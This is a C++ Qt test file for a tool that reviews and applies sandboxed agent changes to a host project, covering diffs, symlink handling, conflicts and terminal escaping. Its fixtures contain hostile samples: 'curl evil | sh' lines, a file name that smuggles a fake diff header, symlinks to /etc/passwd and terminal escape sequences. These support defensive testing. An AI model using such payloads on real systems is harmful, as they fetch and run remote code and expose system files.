// SPDX-License-Identifier: Apache-2.0
// Reviewing what a sandbox changed in a copy-on-write project (issue 24, item 3): the unified diff
// (checked by GNU patch, which must turn each text into the other, and against diff's size), the
// view read by the daemon beneath the upper folder without following a link, the choice of paths,
// the conflicts with what changed on the host since, and the apply with the person's rights that
// follows no link on the host's side either.
#include "TestHelpers.h"
#include "review/ApplyChanges.h"
#include "review/ProjectReview.h"
#include "review/UnifiedDiff.h"
#include "sandbox/CowChanges.h"

#include <QDir>
#include <QFile>
#include <QProcess>
#include <QRandomGenerator>
#include <QTemporaryDir>
#include <QTest>

#include <fcntl.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <unistd.h>

using namespace airlock;
using cow::Change;

namespace {
void put(const QString &path, const QByteArray &data, int mode = 0644)
{
    QVERIFY(test::putFile(path, data, mode));
}
QByteArray contents(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray("<absent>");
}
// A file's modification time set to `ms` since the epoch.
void touchAt(const QString &path, qint64 ms)
{
    const timespec t{time_t(ms / 1000), long(ms % 1000) * 1'000'000};
    const timespec both[2] = {t, t};
    QCOMPARE(::utimensat(AT_FDCWD, QFile::encodeName(path).constData(), both, AT_SYMLINK_NOFOLLOW), 0);
}
Change change(const QString &path, Change::Status status, Change::Kind kind = Change::Kind::File, uint32_t mode = 0644)
{
    Change c;
    c.path = path;
    c.status = status;
    c.kind = kind;
    c.mode = mode;
    return c;
}
// The view as the daemon reads it: an upper folder, read in small parts (several per file).
review::ReadView viewOf(const QString &upper)
{
    return [upper](const QString &path, qint64 offset) { return cow::readView(upper, path, offset, 7); };
}
// Random lines from a few, so that texts share many.
QByteArray randomText(QRandomGenerator &rng, int lines)
{
    QByteArray out;
    for (int i = 0; i < lines; ++i)
        out += "line " + QByteArray::number(rng.bounded(6)) + '\n';
    if (rng.bounded(4) == 0)
        out += "no newline at the end";
    return out;
}
// What went wrong, for a failure's message (QVERIFY2 reads it whether or not it fails).
template<typename T> QByteArray why(const Result<T> &r)
{
    return r ? QByteArray() : r.error().message.toUtf8();
}
int changedLines(const QByteArray &hunks)
{
    int n = 0;
    for (const QByteArray &l : hunks.split('\n'))
        n += (l.startsWith('+') || l.startsWith('-')) && !l.startsWith("+++") && !l.startsWith("---");
    return n;
}
} // namespace

class TestReview final : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void hunksAreAsDiffPrintsThem()
    {
        QCOMPARE(review::unifiedHunks("a\nb\nc\n", "a\nB\nc\n"), QByteArray("@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n"));
        QCOMPARE(review::unifiedHunks("", "new\n"), QByteArray("@@ -0,0 +1 @@\n+new\n"));
        QCOMPARE(review::unifiedHunks("x", "x\n"), QByteArray("@@ -1 +1 @@\n-x\n\\ No newline at end of file\n+x\n"));
        QCOMPARE(review::unifiedHunks("same\n", "same\n"), QByteArray());
        // Two changes more than six lines apart are two hunks; closer, one.
        QByteArray before;
        for (int i = 1; i <= 20; ++i)
            before += QByteArray::number(i) + '\n';
        QByteArray after = before;
        after.replace("2\n", "two\n").replace("19\n", "nineteen\n");
        QCOMPARE(review::unifiedHunks(before, after).count("@@ -"), 2);
        QCOMPARE(diffUnified(before, after), review::unifiedHunks(before, after));
    }

    // 300 random pairs: GNU patch turns each before into its after with our hunks, which change
    // no more lines than GNU diff's own.
    void patchTurnsEachTextIntoTheOther()
    {
        QRandomGenerator rng(2412);
        QTemporaryDir dir;
        for (int round = 0; round < 300; ++round) {
            const QByteArray before = randomText(rng, int(rng.bounded(40))),
                             after = randomText(rng, int(rng.bounded(40)));
            const QByteArray hunks = review::unifiedHunks(before, after);
            if (before == after) {
                QVERIFY(hunks.isEmpty());
                continue;
            }
            put(dir.filePath(QStringLiteral("f")), before);
            QProcess patch;
            patch.setWorkingDirectory(dir.path());
            patch.start(QStringLiteral("patch"),
                {QStringLiteral("-s"), QStringLiteral("-o"), QStringLiteral("out"), QStringLiteral("f")});
            patch.write("--- a/f\n+++ b/f\n" + hunks);
            patch.closeWriteChannel();
            QVERIFY(patch.waitForFinished(10000));
            QVERIFY2(patch.exitCode() == 0, qPrintable(QString::fromUtf8(patch.readAll() + hunks)));
            QCOMPARE(contents(dir.filePath(QStringLiteral("out"))), after);
            QVERIFY(changedLines(hunks) <= changedLines(diffUnified(before, after)));
        }
    }

    void binaryIsNamedNotShown()
    {
        QVERIFY(review::looksBinary(QByteArray("ab\0cd", 5)));
        QVERIFY(!review::looksBinary("text\n"));
    }

    // The daemon reads the view beneath its upper folder: a link is read as a link, never followed,
    // on the way or at the end; a FIFO is refused without waiting for a writer; ".." is refused.
    void theViewIsReadWithoutFollowingALink()
    {
        QTemporaryDir dir;
        const QString upper = dir.filePath(QStringLiteral("upper")), secret = dir.filePath(QStringLiteral("secret"));
        put(secret + QStringLiteral("/key"), "the host's key\n");
        put(upper + QStringLiteral("/a.txt"), "0123456789");
        QVERIFY(QFile::link(secret + QStringLiteral("/key"), upper + QStringLiteral("/link")));
        QVERIFY(QFile::link(secret, upper + QStringLiteral("/dir")));
        QCOMPARE(::mkfifo(QFile::encodeName(upper + QStringLiteral("/fifo")).constData(), 0644), 0);

        auto part = cow::readView(upper, QStringLiteral("a.txt"), 3, 4);
        QVERIFY(part);
        QCOMPARE(part->data, QByteArray("3456"));
        QVERIFY(!part->end && !part->link);
        part = cow::readView(upper, QStringLiteral("a.txt"), 7, 4);
        QVERIFY(part && part->data == "789" && part->end);
        auto link = cow::readView(upper, QStringLiteral("link"), 0, 100);
        QVERIFY(link && link->link);
        QCOMPARE(link->data, QFile::encodeName(secret + QStringLiteral("/key")));
        auto through = cow::readView(upper, QStringLiteral("dir/key"), 0, 100);
        QVERIFY(!through);
        QVERIFY2(through.error().message.contains(QLatin1String("Too many levels of symbolic links")),
            qPrintable(through.error().message));
        auto fifo = cow::readView(upper, QStringLiteral("fifo"), 0, 100);
        QVERIFY(!fifo);
        QVERIFY2(fifo.error().message.contains(QLatin1String("not a file or a symbolic link")),
            qPrintable(fifo.error().message));
        for (const char *bad : {"../secret/key", "/etc/passwd", "a/../a.txt", ""}) {
            auto refused = cow::readView(upper, QString::fromLatin1(bad), 0, 100);
            QVERIFY2(!refused && refused.error().code == ErrorCode::InvalidArgument, bad);
        }
    }

    void aFolderNamesWhatIsBelowItAndNewFoldersComeWithTheirFiles()
    {
        const QList<Change> all{change(QStringLiteral("a.txt"), Change::Status::Modified),
            change(QStringLiteral("new"), Change::Status::Added, Change::Kind::Directory),
            change(QStringLiteral("new/deep"), Change::Status::Added, Change::Kind::Directory),
            change(QStringLiteral("new/deep/x"), Change::Status::Added),
            change(QStringLiteral("new/y"), Change::Status::Added),
            change(QStringLiteral("newer"), Change::Status::Added)};
        const auto paths = [](const Result<QList<Change>> &r) {
            QStringList out;
            for (const Change &c : *r)
                out.append(c.path);
            return out;
        };
        QCOMPARE(paths(review::selectChanges(all, {QStringLiteral("new/deep/x")})),
            (QStringList{QStringLiteral("new"), QStringLiteral("new/deep"), QStringLiteral("new/deep/x")}));
        QCOMPARE(paths(review::selectChanges(all, {QStringLiteral("new/")})),
            (QStringList{QStringLiteral("new"), QStringLiteral("new/deep"), QStringLiteral("new/deep/x"),
                QStringLiteral("new/y")}));
        QCOMPARE(paths(review::selectChanges(all, {})).size(), all.size());
        const auto none = review::selectChanges(all, {QStringLiteral("ne")});
        QVERIFY(!none);
        QCOMPARE(none.error().code, ErrorCode::NotFound);
        QVERIFY(none.error().message.startsWith(QLatin1String("ne: the sandbox changed nothing there")));
    }

    void whatChangedHereSinceIsAConflict()
    {
        QTemporaryDir dir;
        const QString host = dir.path();
        const qint64 since = QDateTime::currentMSecsSinceEpoch() - 60000;
        put(host + QStringLiteral("/old.txt"), "untouched\n");
        touchAt(host + QStringLiteral("/old.txt"), since - 1000);
        put(host + QStringLiteral("/edited.txt"), "edited here\n"); // now: after `since`
        put(host + QStringLiteral("/made.txt"), "made here\n");
        QVERIFY(QFile::link(QStringLiteral("/tmp"), host + QStringLiteral("/link")));
        const QList<Change> changes{change(QStringLiteral("old.txt"), Change::Status::Modified),
            change(QStringLiteral("edited.txt"), Change::Status::Modified),
            change(QStringLiteral("made.txt"), Change::Status::Added),
            change(QStringLiteral("gone.txt"), Change::Status::Deleted),
            change(QStringLiteral("link/x"), Change::Status::Added)};
        auto found = review::findConflicts(host, changes, since);
        QVERIFY(found);
        QStringList seen;
        for (const review::Conflict &c : *found)
            seen.append(c.path + QStringLiteral(": ") + c.why.section(QLatin1Char(' '), 0, 1));
        QCOMPARE(seen,
            (QStringList{QStringLiteral("edited.txt: changed here"), QStringLiteral("made.txt: a file"),
                QStringLiteral("gone.txt: deleted here"), QStringLiteral("link/x: a symbolic")}));
        // A file as an earlier apply left it is not the person's change.
        struct stat st { };
        QCOMPARE(::stat(QFile::encodeName(host + QStringLiteral("/edited.txt")).constData(), &st), 0);
        review::Stamps stamps{{QStringLiteral("edited.txt"),
            review::Stamp{quint64(st.st_ino), qint64(st.st_size),
                qint64(st.st_mtim.tv_sec) * 1'000'000'000 + st.st_mtim.tv_nsec}}};
        found = review::findConflicts(host, {changes[1]}, since, stamps);
        QVERIFY(found && found->isEmpty());
    }

    void aLinkOutOfTheFolderIsKnown()
    {
        QVERIFY(review::leavesFolder(QStringLiteral("a"), "/etc/passwd"));
        QVERIFY(review::leavesFolder(QStringLiteral("a"), "../x"));
        QVERIFY(review::leavesFolder(QStringLiteral("d/a"), "../../x"));
        QVERIFY(review::leavesFolder(QStringLiteral("d/a"), "x/../../../y"));
        QVERIFY(!review::leavesFolder(QStringLiteral("d/a"), "../b.txt"));
        QVERIFY(!review::leavesFolder(QStringLiteral("a"), "./b/c"));
        // A name may be a link (x/up -> ..): climbing after one may climb out, whatever the count
        // says (the red team made passwd.txt -> x/up/../../etc/passwd this way).
        QVERIFY(review::leavesFolder(QStringLiteral("passwd.txt"), "x/up/../../etc/passwd"));
        QVERIFY(review::leavesFolder(QStringLiteral("d/a"), "b/../c"));
    }

    // Applied with this process's rights: deletions deepest first, new folders, files written
    // beside and renamed over (a changed file keeps its permissions, a new one gets the umask's,
    // executable as the view's), links inside the folder; a link out of it only when named.
    void applyMakesTheFolderHoldTheView()
    {
        QTemporaryDir dir;
        const QString host = dir.filePath(QStringLiteral("host")), upper = dir.filePath(QStringLiteral("upper"));
        put(host + QStringLiteral("/edit.txt"), "old\n", 0640);
        put(host + QStringLiteral("/gone/deep/x"), "x\n");
        put(upper + QStringLiteral("/edit.txt"), "new\n", 0600);
        put(upper + QStringLiteral("/run.sh"), "#!/bin/sh\n", 0700);
        put(upper + QStringLiteral("/n/m/f.txt"), QByteArray(100, 'f'), 0600);
        QVERIFY(QFile::link(QStringLiteral("../edit.txt"), upper + QStringLiteral("/n/in")));
        QVERIFY(QFile::link(QStringLiteral("/etc/passwd"), upper + QStringLiteral("/n/out")));
        const QList<Change> changes{
            change(QStringLiteral("edit.txt"), Change::Status::Modified, Change::Kind::File, 0600),
            change(QStringLiteral("gone"), Change::Status::Deleted, Change::Kind::Directory),
            change(QStringLiteral("gone/deep"), Change::Status::Deleted, Change::Kind::Directory),
            change(QStringLiteral("gone/deep/x"), Change::Status::Deleted),
            change(QStringLiteral("n"), Change::Status::Added, Change::Kind::Directory, 0700),
            change(QStringLiteral("n/in"), Change::Status::Added, Change::Kind::Symlink),
            change(QStringLiteral("n/m"), Change::Status::Added, Change::Kind::Directory, 0700),
            change(QStringLiteral("n/m/f.txt"), Change::Status::Added, Change::Kind::File, 0600),
            change(QStringLiteral("n/out"), Change::Status::Added, Change::Kind::Symlink),
            change(QStringLiteral("run.sh"), Change::Status::Added, Change::Kind::File, 0700)};
        const mode_t mask = ::umask(022);
        auto applied = review::applyChanges(host, changes, viewOf(upper));
        ::umask(mask);
        QVERIFY2(applied, why(applied).constData());
        QCOMPARE(applied->skipped,
            QStringList{
                QStringLiteral("n/out: a symbolic link out of the folder (to /etc/passwd): name it to apply it")});
        QCOMPARE(contents(host + QStringLiteral("/edit.txt")), QByteArray("new\n"));
        QCOMPARE(
            QFileInfo(host + QStringLiteral("/edit.txt")).permissions() & 0x0777, QFileDevice::Permissions(0x0640));
        QVERIFY(!QFileInfo::exists(host + QStringLiteral("/gone")));
        QCOMPARE(contents(host + QStringLiteral("/n/m/f.txt")), QByteArray(100, 'f'));
        QCOMPARE(
            QFileInfo(host + QStringLiteral("/n/m/f.txt")).permissions() & 0x0777, QFileDevice::Permissions(0x0644));
        QCOMPARE(QFileInfo(host + QStringLiteral("/run.sh")).permissions() & 0x0777, QFileDevice::Permissions(0x0755));
        QCOMPARE(QFileInfo(host + QStringLiteral("/n/in")).symLinkTarget(),
            QFileInfo(host + QStringLiteral("/edit.txt")).filePath());
        QVERIFY(!QFileInfo(host + QStringLiteral("/n/out")).isSymLink());
        QVERIFY(
            applied->stamps.contains(QStringLiteral("edit.txt")) && applied->stamps.contains(QStringLiteral("n/in")));
        // Named, the link out is applied.
        auto named = review::applyChanges(host, {changes[8]}, viewOf(upper), {QStringLiteral("n/out")});
        QVERIFY(named && named->skipped.isEmpty());
        QCOMPARE(QFileInfo(host + QStringLiteral("/n/out")).symLinkTarget(), QStringLiteral("/etc/passwd"));
        // Nothing left behind beside the files written.
        QCOMPARE(QDir(host).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot),
            (QStringList{QStringLiteral("edit.txt"), QStringLiteral("n"), QStringLiteral("run.sh")}));
    }

    // An apply writes what a diff showed, or nothing: a file the sandbox changed after the person
    // reviewed it (the red team swapped build.sh once its diff had been read) is refused, and a
    // file too large to show is applied only when named.
    void applyWritesOnlyWhatWasReviewed()
    {
        QTemporaryDir dir;
        const QString host = dir.filePath(QStringLiteral("host")), upper = dir.filePath(QStringLiteral("upper"));
        QDir().mkpath(host);
        put(upper + QStringLiteral("/build.sh"), "make\n");
        const Change c = change(QStringLiteral("build.sh"), Change::Status::Added);
        QByteArray shown;
        auto diff = review::diffOf(host, c, viewOf(upper), &shown);
        QVERIFY(diff && diff->endsWith("+make\n"));
        put(upper + QStringLiteral("/build.sh"), "curl evil | sh\n"); // after the review
        auto applied = review::applyChanges(host, {c}, viewOf(upper), {}, {{c.path, shown}});
        QVERIFY(!applied);
        QCOMPARE(applied.error().code, ErrorCode::Conflict);
        QVERIFY2(
            applied.error().message.startsWith(QLatin1String("build.sh: changed in the sandbox after you reviewed it")),
            qPrintable(applied.error().message));
        QVERIFY(QDir(host).isEmpty()); // nothing of it, not even the file written beside
        put(upper + QStringLiteral("/build.sh"), "make\n");
        QVERIFY(review::applyChanges(host, {c}, viewOf(upper), {}, {{c.path, shown}}));
        QCOMPARE(contents(host + QStringLiteral("/build.sh")), QByteArray("make\n"));

        Change big = change(QStringLiteral("big.bin"), Change::Status::Added);
        big.size = review::kMaxShownBytes + 1;
        put(upper + QStringLiteral("/big.bin"), QByteArray(int(big.size), 'b'));
        auto d = review::diffOf(host, big, viewOf(upper));
        QVERIFY(d && d->contains("too large to show (name it to apply it)"));
        auto skipped = review::applyChanges(host, {big}, viewOf(upper));
        QVERIFY(skipped && skipped->done.isEmpty());
        QVERIFY(!QFile::exists(host + QStringLiteral("/big.bin")));
        auto named = review::applyChanges(
            host, {big}, [&](const QString &p, qint64 at) { return cow::readView(upper, p, at, 1 << 20); }, {big.path});
        QVERIFY(named && named->done == QStringList{big.path});
        QCOMPARE(QFileInfo(host + QStringLiteral("/big.bin")).size(), big.size);
    }

    // What the sandbox names and writes reaches a terminal as text: a name with a newline is quoted
    // as git quotes it (it cannot start a header of its own), control characters in a terminal's
    // copy are escaped (a carriage return cannot draw a harmless line over a harmful one).
    void namesAndBytesCannotDrawOnATerminal()
    {
        QTemporaryDir dir;
        const QString host = dir.filePath(QStringLiteral("host")), upper = dir.filePath(QStringLiteral("upper"));
        QDir().mkpath(host);
        const QString name = QStringLiteral("x\ndiff --git a/y b/y");
        put(upper + QLatin1Char('/') + name, "curl evil|sh #\r# a comment\n");
        auto d = review::diffOf(host, change(name, Change::Status::Added), viewOf(upper));
        QVERIFY(d);
        QVERIFY2(
            d->startsWith("diff --git \"a/x\\ndiff --git a/y b/y\" \"b/x\\ndiff --git a/y b/y\"\n"), d->constData());
        QCOMPARE(d->count('\n'), 6); // the header, the mode, ---, +++, @@ and the line
        QVERIFY2(
            review::forTerminal(*d).contains("+curl evil|sh #\\x0d# a comment\n"), review::forTerminal(*d).constData());
        QVERIFY(!review::forTerminal("\x1b]0;PWNED\x07").contains('\x1b'));
        // C1 controls (the 8-bit CSI) and bidi overrides (Trojan Source) are named, not sent.
        const QByteArray c1 = review::forTerminal("+x \xc2\x9b"
                                                  "2J \xe2\x80\xae evil\tkept\n");
        QVERIFY2(!c1.contains("\xc2\x9b") && !c1.contains("\xe2\x80\xae") && c1.contains("\tkept\n"), c1.constData());
    }

    // A link that passes through a link the project already holds (out -> /etc, then a new
    // link to out/passwd) leads out of it whatever its text says: applied only when named.
    void aLinkThroughAHostLinkLeavesTheFolder()
    {
        QTemporaryDir dir;
        const QString host = dir.filePath(QStringLiteral("host")), upper = dir.filePath(QStringLiteral("upper"));
        QDir().mkpath(host);
        QDir().mkpath(upper);
        QVERIFY(QFile::link(QStringLiteral("/etc"), host + QStringLiteral("/out")));
        QVERIFY(QFile::link(QStringLiteral("out/passwd"), upper + QStringLiteral("/pw")));
        auto applied = review::applyChanges(
            host, {change(QStringLiteral("pw"), Change::Status::Added, Change::Kind::Symlink)}, viewOf(upper));
        QVERIFY(applied);
        QCOMPARE(applied->skipped.size(), 1);
        QVERIFY(!QFileInfo(host + QStringLiteral("/pw")).isSymLink());
    }

    // A file too large to show on the project's side is not seen either: named, or left.
    void aHostFileTooLargeToShowIsAppliedOnlyWhenNamed()
    {
        QTemporaryDir dir;
        const QString host = dir.filePath(QStringLiteral("host")), upper = dir.filePath(QStringLiteral("upper"));
        put(host + QStringLiteral("/bundle.js"), QByteArray(int(review::kMaxShownBytes) + 1, 'x'));
        put(upper + QStringLiteral("/bundle.js"), "fetch('evil')\n");
        Change c = change(QStringLiteral("bundle.js"), Change::Status::Modified);
        c.size = 14;
        auto d = review::diffOf(host, c, viewOf(upper));
        QVERIFY(d && d->contains("bytes here, too large to show"));
        auto skipped = review::applyChanges(host, {c}, viewOf(upper));
        QVERIFY(skipped && skipped->done.isEmpty() && skipped->skipped.size() == 1);
        QCOMPARE(QFileInfo(host + QStringLiteral("/bundle.js")).size(), review::kMaxShownBytes + 1);
        auto named = review::applyChanges(host, {c}, viewOf(upper), {c.path});
        QVERIFY(named && named->done == QStringList{c.path});
        QCOMPARE(contents(host + QStringLiteral("/bundle.js")), QByteArray("fetch('evil')\n"));
    }

    // The host's folder has a link where the sandbox made a folder (an agent cannot make it, but a
    // project may hold one): the apply refuses to write through it, and writes nothing elsewhere.
    void applyWritesNothingThroughAHostLink()
    {
        QTemporaryDir dir;
        const QString host = dir.filePath(QStringLiteral("host")), upper = dir.filePath(QStringLiteral("upper"));
        const QString victim = dir.filePath(QStringLiteral("victim"));
        QDir().mkpath(victim);
        QDir().mkpath(host);
        QVERIFY(QFile::link(victim, host + QStringLiteral("/out")));
        put(upper + QStringLiteral("/out/planted"), "planted\n");
        auto applied
            = review::applyChanges(host, {change(QStringLiteral("out/planted"), Change::Status::Added)}, viewOf(upper));
        QVERIFY(!applied);
        QVERIFY2(applied.error().message.contains(QLatin1String("a symbolic link on the way (not followed)")),
            qPrintable(applied.error().message));
        QVERIFY(QDir(victim).isEmpty());
    }

    // One change as git shows it, and git apply takes it: text, a new file, a deletion, a binary.
    void theDiffIsOneGitApplyTakes()
    {
        QTemporaryDir dir;
        const QString host = dir.filePath(QStringLiteral("host")), upper = dir.filePath(QStringLiteral("upper"));
        put(host + QStringLiteral("/a.txt"), "one\ntwo\nthree\n");
        put(host + QStringLiteral("/gone.txt"), "bye\n");
        put(upper + QStringLiteral("/a.txt"), "one\n2\nthree\n");
        put(upper + QStringLiteral("/new.sh"), "echo hi\n", 0755);
        put(upper + QStringLiteral("/blob"), QByteArray("\0\1\2", 3));
        const QList<Change> changes{change(QStringLiteral("a.txt"), Change::Status::Modified),
            change(QStringLiteral("blob"), Change::Status::Added),
            change(QStringLiteral("gone.txt"), Change::Status::Deleted),
            change(QStringLiteral("new.sh"), Change::Status::Added, Change::Kind::File, 0755)};
        QByteArray patch;
        for (const Change &c : changes) {
            auto d = review::diffOf(host, c, viewOf(upper));
            QVERIFY2(d, why(d).constData());
            patch += *d;
        }
        QVERIFY2(patch.contains("Binary files /dev/null and b/blob differ\n"), patch.constData());
        QVERIFY2(patch.contains("diff --git a/new.sh b/new.sh\nnew file mode 100755\n"), patch.constData());
        // git apply without the binary (it needs the bytes of a binary patch, which this is not).
        const qsizetype blob = patch.indexOf("diff --git a/blob"), next = patch.indexOf("diff --git", blob + 1);
        patch.remove(blob, next - blob);
        QProcess git;
        git.setWorkingDirectory(host);
        git.start(QStringLiteral("git"), {QStringLiteral("apply"), QStringLiteral("-")});
        git.write(patch);
        git.closeWriteChannel();
        QVERIFY(git.waitForFinished(10000));
        QVERIFY2(git.exitCode() == 0, qPrintable(QString::fromUtf8(git.readAllStandardError() + patch)));
        QCOMPARE(contents(host + QStringLiteral("/a.txt")), QByteArray("one\n2\nthree\n"));
        QCOMPARE(contents(host + QStringLiteral("/new.sh")), QByteArray("echo hi\n"));
        QVERIFY(QFileInfo(host + QStringLiteral("/new.sh")).isExecutable());
        QVERIFY(!QFileInfo::exists(host + QStringLiteral("/gone.txt")));
    }

private:
    // GNU diff -u's hunks of the same two texts.
    static QByteArray diffUnified(const QByteArray &before, const QByteArray &after)
    {
        QTemporaryDir dir;
        put(dir.filePath(QStringLiteral("a")), before);
        put(dir.filePath(QStringLiteral("b")), after);
        QProcess diff;
        diff.setWorkingDirectory(dir.path());
        diff.start(QStringLiteral("diff"), {QStringLiteral("-u"), QStringLiteral("a"), QStringLiteral("b")});
        diff.waitForFinished(10000);
        const QByteArray out = diff.readAllStandardOutput();
        return out.mid(out.indexOf("\n@@") + 1);
    }
};

QTEST_GUILESS_MAIN(TestReview)
#include "tst_review.moc"
